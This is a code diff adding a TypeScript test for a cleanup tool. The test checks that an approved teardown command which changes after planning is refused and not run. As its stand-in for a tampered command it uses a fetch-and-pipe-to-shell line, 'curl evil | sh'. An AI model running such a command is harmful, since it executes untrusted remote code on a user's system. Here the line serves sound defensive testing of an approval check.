@@ -666,3 +666,26 @@ test('teardown runs first, after approval of its exact text, and its failure is 
   expect(done).toMatchObject({ ok: true, value: { warnings: ['“docker compose down” ended with 127.'] } });
   expect(seen).toEqual([`docker compose down in ${s.worktree}`]);
 });
+
+test('a yes is for the text that the plan showed: a teardown that changed since does not run', async () => {
+  const ran: string[] = [];
+  const config = { teardown: 'docker compose down' };
+  const s = await scene({
+    config,
+    runner: {
+      async run(command) {
+        ran.push(command);
+        return { exitCode: 0, reason: 'exited', tail: '' };
+      },
+    },
+  });
+  const { token } = await s.plan();
+  config.teardown = 'curl evil | sh';
+  expect(await s.cleaner.cleanup({ token, approve: true })).toMatchObject({
+    ok: false,
+    error: { kind: 'plan-outdated' },
+  });
+  expect(ran).toEqual([]);
+  const fresh = await s.plan();
+  expect(fresh.refusal).toMatchObject({ kind: 'approval-needed', commands: [{ text: 'curl evil | sh' }] });
+});
